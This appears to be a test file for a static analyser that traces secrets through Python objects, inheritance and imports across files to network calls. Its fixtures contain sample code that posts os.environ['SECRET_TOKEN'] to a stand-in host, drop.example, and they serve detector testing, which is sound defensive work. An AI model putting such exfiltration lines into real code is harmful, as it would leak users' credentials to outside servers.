"""What objects hold and their methods send, in one file and across files, through the door of the language."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pinfold.language.companions import Companions
from pinfold.language.context import Context
from pinfold.language.python import program as python
from pinfold.model import Place

FAR = "https://drop.example/in"
SECRET = "os.environ['SECRET_TOKEN']"


def sent(programs: dict[str, str], path: str = "main.py") -> set[str]:
    """Return what the connections of one program carry."""
    context = Context(place=lambda start, end: Place(path, start, end), group=path, companions=Companions(programs))
    found = python.acts(programs[path], context)
    return {word for act in found for word in str(act.fields.get("SentData", "")).split()}


HOLDS = f"import os\nclass Holder:\n    def __init__(self):\n        self.key = {SECRET}\n"
SENDS = (
    "import requests\nclass Sender:\n    def __init__(self, key=''):\n        self.key = key\n"
    f"    def go(self):\n        requests.post('{FAR}', data=self.key)\n"
)
LEAVES = (
    "import requests\nclass Sender:\n    def collect(self):\n        raise NotImplementedError\n"
    f"    def go(self):\n        requests.post('{FAR}', data=self.collect())\n"
)
GIVEN = (
    "import requests\nclass Sender:\n    def __init__(self, source):\n        self.source = source\n"
    f"    def go(self):\n        requests.post('{FAR}', data=self.source.key)\n"
)
OBJECTS = {
    "given to another object": {"main.py": f"{HOLDS}{GIVEN}Sender(Holder()).go()\n"},
    "given to a method": {
        "main.py": f"import requests\n{HOLDS}class B:\n    def go(self, a):\n"
        f"        requests.post('{FAR}', data=a.key)\nB().go(Holder())\n"
    },
    "a property": {
        "main.py": f"import os, requests\nclass A:\n    @property\n    def key(self):\n        return {SECRET}\n"
        f"requests.post('{FAR}', data=A().key)\n"
    },
    "a field of a data class": {
        "main.py": "import os, requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n"
        f"    key: str\na = A('x', key={SECRET})\nrequests.post('{FAR}', data=a.key)\n"
    },
    "set from outside": {"main.py": f"import os\n{SENDS}a = Sender()\na.go()\na.key = {SECRET}\na.go()\n"},
    "held elsewhere": {
        "main.py": f"import requests\nfrom lib import Holder\nrequests.post('{FAR}', data=Holder().key)\n",
        "lib.py": HOLDS,
    },
    "held in a module": {
        "main.py": f"import requests\nimport lib\na = lib.Holder()\nrequests.post('{FAR}', data=a.key)\n",
        "lib.py": HOLDS,
    },
    "sent elsewhere": {"main.py": f"import os\nfrom lib import Sender\nSender({SECRET}).go()\n", "lib.py": SENDS},
    "set from outside, sent elsewhere": {
        "main.py": f"import os\nfrom lib import Sender\na = Sender()\na.key = {SECRET}\na.go()\n",
        "lib.py": SENDS,
    },
    "held in one file, sent in another": {
        "main.py": "from one import Holder\nfrom two import Sender\nSender(Holder()).go()\n",
        "one.py": HOLDS,
        "two.py": GIVEN,
    },
    "inherited": {
        "main.py": "import requests\nfrom lib import Holder\nclass B(Holder):\n    def go(self):\n"
        f"        requests.post('{FAR}', data=self.key)\nB().go()\n",
        "lib.py": HOLDS,
    },
    "inherited from a module's class": {
        "main.py": "import requests\nimport lib\nclass B(lib.Holder):\n    def go(self):\n"
        f"        requests.post('{FAR}', data=self.key)\nB().go()\n",
        "lib.py": HOLDS,
    },
    "handed to the one it inherits from": {
        "main.py": "import os\nfrom lib import Sender\nclass B(Sender):\n    def __init__(self):\n"
        f"        super().__init__({SECRET})\nB().go()\n",
        "lib.py": SENDS,
    },
    "what the heir collects": {
        "main.py": "import os\nfrom lib import Sender\nclass B(Sender):\n    def collect(self):\n"
        f"        return {SECRET}\nB().go()\n",
        "lib.py": LEAVES,
    },
    "over three files": {
        "main.py": "import requests\nfrom two import Middle\nclass B(Middle):\n    pass\n"
        f"requests.post('{FAR}', data=B().key)\n",
        "two.py": "from lib import Holder\nclass Middle(Holder):\n    pass\n",
        "lib.py": HOLDS,
    },
}


@pytest.mark.parametrize("programs", OBJECTS.values(), ids=OBJECTS)
def test_what_objects_hold_is_followed_to_where_it_is_sent(programs):
    assert "env:SECRET_TOKEN" in sent(programs)


QUIET = {
    "it is held and not sent": {
        "main.py": f"import os\nfrom lib import Sender\nSender('x').go()\nkey = {SECRET}\n", "lib.py": SENDS
    },
    "another attribute": {
        "main.py": f"import requests\nfrom lib import Holder\na = Holder()\nrequests.post('{FAR}', data=a.name)\n",
        "lib.py": HOLDS,
    },
    "a method of that name": {
        "main.py": f"import requests\nfrom lib import A\nrequests.post('{FAR}', data=A().key)\n",
        "lib.py": f"import os\nclass A:\n    def key(self):\n        return {SECRET}\n",
    },
    "a class that does not inherit": {
        "main.py": "import requests\nfrom lib import Holder\nclass B:\n    def go(self):\n"
        f"        requests.post('{FAR}', data=self.key)\nB().go()\n",
        "lib.py": HOLDS,
    },
    "another object of the class": {
        "main.py": "from lib import Sender\na = Sender('x')\na.go()\n",
        "other.py": f"import os\nfrom lib import Sender\nSender({SECRET})\n",
        "lib.py": SENDS,
    },
}  # fmt: skip


@pytest.mark.parametrize("programs", QUIET.values(), ids=QUIET)
def test_what_is_not_sent_is_not_taken_to_be(programs):
    companions = Companions(programs)
    for path in sorted(programs, reverse=True):  # whoever came before says nothing of the next
        context = Context(place=lambda start, end: Place("", start, end), group=path, companions=companions)
        found = python.acts(programs[path], context)
        if path == "main.py":
            assert not any("env:" in str(act.fields.get("SentData", "")) for act in found)


def test_what_a_class_does_by_itself_is_told_by_its_own_file_only():
    programs = {"main.py": "from lib import Sender\nSender().go()\n", "lib.py": SENDS}
    assert sent(programs) == set()
    context = Context(place=lambda start, end: Place("", start, end), group="main.py", companions=Companions(programs))
    assert python.acts(programs["main.py"], context) == []


LINES = st.sampled_from(
    ["class A(B):", "class B(A):", "class A(A):", "from b import A", "from a import B", "from a import *",
     "  def f(self):", "    self.x = A()", "    return self.x.f()", "    super().f()", "a = A()", "a.x = a", "a.f()",
     "  x: int", "  @property",
     "  def x(self):", "B(A()).f(B)", "A.f(a)", "self.f = a"]
)  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(st.lists(LINES, max_size=30), st.lists(LINES, max_size=30))
def test_any_classes_are_read(first, second):
    programs = {"a.py": "import os\n" + "\n".join(first), "b.py": "import os\n" + "\n".join(second)}
    for path in programs:
        sent(programs, path)
